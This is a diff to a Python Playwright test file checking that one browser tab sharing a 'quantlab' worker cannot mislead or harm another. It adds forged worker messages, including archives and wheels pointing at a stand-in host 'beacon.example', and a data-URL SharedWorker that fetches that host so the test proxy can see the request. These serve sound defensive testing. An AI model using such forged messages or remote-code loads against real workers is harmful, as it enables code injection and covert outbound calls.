@@ -264,23 +264,37 @@ def test_stop_in_one_tab_leaves_the_other_alone(visit, server, site):
     expect(there.explorer.result).to_contain_text("the weight 0.25 ", timeout=5_000)
 
 
-FORGED = """base => {
+FORGED = """async base => {
   const {port} = window.line;
+  // Not for the tab's own Python: that would end the worker where one fails, as it may.
+  port.onmessage = null;
   const elsewhere = "http://beacon.example/own.zip";
-  const call = {type: "call", id: 1, method: "draw", params: "{}", wanted: ["draw", "quantization-explorer"]};
+  const draw = {type: "call", id: 1, method: "draw", params: "{}", wanted: ["draw", "quantization-explorer"]};
   const start = {type: "start", folder: base, scripts: {}, archive: elsewhere, wanted: [], willSendWasm: true};
-  const forged = [
-    7, "close", {}, {type: "nonsense"}, {type: "wasm"}, start,
-    {...call, params: "{"}, {...call, method: "__class__"}, {...call, wanted: undefined},
-    {...call, archive: {file: elsewhere}}, {...call, archive: {file: base + "x.zip", wheels: [{file: elsewhere, sha256: ""}]}},
+  const answered = [
+    start, {...draw, wanted: ["draw", "quantization-block"]}, // whose archive is not here yet
+    {...draw, archive: {file: elsewhere}}, {...draw, archive: {file: base + "x.zip", wheels: [{file: elsewhere, sha256: ""}]}},
+    {...draw, params: "{"}, {...draw, params: "7"},
+    {...draw, params: '{"sources": 7}'}, {...draw, method: "__class__"}, {...draw, wanted: undefined},
     {type: "read", id: 1, files: [{}]},
   ];
-  for (const message of forged) port.postMessage(message);
+  for (const message of [7, "close", {}, {type: "nonsense"}, {type: "wasm"}]) answered.push(message, start);
+  const count = answered.filter(({type}) => ["start", "call", "read"].includes(type)).length;
+  const said = [];
+  await new Promise((resolve) => {
+    setTimeout(resolve, 20_000);
+    port.addEventListener("message", ({data}) => said.push(data) === count && resolve());
+    for (const message of answered) port.postMessage(message);
+  });
+  return [count, said.map(({type}) => type)];
 }"""
 
 
-def test_a_tab_that_shares_the_worker_cannot_mislead_another(visit, server, site):
-    """As a copy of a tab does, which has its storage. It can end the worker, as *Stop* does: the other tab goes on with one of its own."""
+def test_a_tab_that_shares_the_worker_can_neither_mislead_nor_harm_another(visit, server, site):
+    """As a copy of a tab does, which has its storage.
+
+    It can end the worker, as *Stop* does: the other tab goes on with one of its own.
+    """
     here = visit("mkdocs")
     recovers(here)
     there = here.beside(site("mkdocs").page())
@@ -297,14 +311,34 @@ def test_a_tab_that_shares_the_worker_cannot_mislead_another(visit, server, site
         here.page.evaluate("sessionStorage.getItem('quantlab-worker')"),
     )
     recovers(there, "0.5")
-    there.page.evaluate(FORGED, here.page.evaluate("new URL('assets/quantlab/', location).href"))
+    workers = here.tally("workers")
+    here.allow("status of 404")
+    count, said = there.page.evaluate(
+        FORGED, here.page.evaluate("new URL('assets/quantlab/', location).href")
+    )
+    assert len(said) == count, f"it answered {said}, and then no more"
+    # What `test_the_proxy_sees_what_a_shared_worker_asks` shows: it would be here.
+    assert not [stray for stray in server.strays[here.strays :] if "beacon" in stray]
     recovers(here, "0.375")
     # It dies in the middle of a question.
     there.explorer.set("weight", "0.625")
     there.page.close()
     recovers(here, "0.125")
-    # The proxy would have seen it, whoever asked.
-    assert not [stray for stray in server.strays[here.strays :] if "beacon" in stray]
+    assert here.tally("workers") == workers
+
+
+def test_the_proxy_sees_what_a_shared_worker_asks(visit, server):
+    lab = visit("mkdocs")
+    lab.page.evaluate(
+        """() => new Promise((resolve) => {
+            const asks = "onconnect = ({ports: [port]}) => fetch('http://beacon.example/seen')"
+                + ".catch(() => {}).then(() => port.postMessage(0))";
+            new SharedWorker(`data:text/javascript,${encodeURIComponent(asks)}`).port.onmessage = resolve;
+        })"""
+    )
+    lab.allow("")
+    assert [stray for stray in server.strays[lab.strays :] if "beacon" in stray]
+    del server.strays[lab.strays :]
 
 
 @pytest.mark.parametrize("kind", KINDS)
